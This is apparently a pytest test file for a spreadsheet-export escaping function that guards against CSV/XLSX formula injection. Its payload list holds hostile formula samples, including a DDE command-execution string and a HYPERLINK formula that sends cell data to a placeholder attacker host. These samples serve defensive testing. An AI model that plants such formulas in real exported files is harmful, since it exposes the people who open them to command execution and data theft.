"""Formula injection: one escaping function for every CSV and XLSX writer in wangjian."""

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from wangjian.core.spreadsheets import csv_text, neutralise, xlsx_bytes

PACKAGE = Path(__file__).resolve().parents[2]

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_gets_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["甲乙食品", "a=b", "", "1+2", "'=already", 12, -5, Decimal("-1.50"), None, 0.5]
)
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


def test_csv_cells_are_neutralised_but_numbers_stay_numbers():
    text = csv_text([["名称", "金额"]], [["=1+2", -5], ["@x", Decimal("-1.50")]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["名称", "金额"], ["'=1+2", "-5"], ["'@x", "-1.50"]]


def test_xlsx_text_is_written_as_strings_and_numbers_as_numbers():
    content = xlsx_bytes("表", ["名称", "金额"], [["=1+2", -5], ["-3", 2.5]])
    sheet = load_workbook(io.BytesIO(content)).active
    cells = list(sheet.iter_rows())
    assert [(c.value, c.data_type) for c in cells[1]] == [("'=1+2", "s"), (-5, "n")]
    assert [(c.value, c.data_type) for c in cells[2]] == [("'-3", "s"), (2.5, "n")]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml


# Files that write CSV or XLSX without the escaping function, and why that is right.
NOT_EXPORTS = {
    # Writes a platform's submission file for the demo to import: input, not an export.
    "registry/demo.py",
    # Builds the bundled reference data from public sources (a maintainer's tool).
    "core/data/divisions/build_divisions_csv.py",
    "core/spreadsheets.py",
}


def test_every_csv_and_xlsx_writer_goes_through_the_escaping_function():
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(")
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE).as_posix()
        if "/tests/" in f"/{relative}" or relative in NOT_EXPORTS:
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert offenders == []
